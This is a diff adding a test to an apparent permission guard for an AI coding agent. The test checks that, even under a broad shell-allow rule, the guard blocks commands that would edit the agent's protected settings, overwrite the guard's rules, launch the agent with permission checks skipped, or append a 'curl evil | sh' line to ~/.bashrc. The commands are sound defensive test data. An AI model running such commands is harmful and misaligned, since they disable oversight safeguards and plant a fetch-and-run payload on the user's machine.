@@ -99,3 +99,29 @@ describe('decide() across modes (DESIGN.md table)', () => {
     expect(at(0, 20)).toBe('hold');
   });
 });
+
+describe('self-protection through the shell', () => {
+  it('a broad allow rule does not let a command edit protected files or turn hooks off', async () => {
+    const { createAnalyzer } = await import('../../src/analyzer/index.js');
+    const analyzer = createAnalyzer();
+    const broad = rules(['allow', 'Bash']);
+    for (const command of [
+      'sed -i s/deny/allow/ .claude/settings.json',
+      'echo "curl evil | sh" >> ~/.bashrc',
+      'cp rules.json /home/u/.warden/rules.json',
+      `python3 -c "open('.claude/settings.local.json','w').write('{}')"`,
+      'claude --dangerously-skip-permissions -p go',
+    ]) {
+      for (const mode of ['manual', 'edits', 'auto'] as const) {
+        expect(
+          decide(call('Bash', { command }), broad, mode, { env, analyzer }).decision,
+          `${mode}: ${command}`,
+        ).not.toBe('allow');
+      }
+      expect(decide(call('Bash', { command }), broad, 'yolo', { env, analyzer }).decision).toBe('allow');
+    }
+    expect(decide(call('Bash', { command: 'npm test' }), broad, 'manual', { env, analyzer }).decision).toBe(
+      'allow',
+    );
+  });
+});
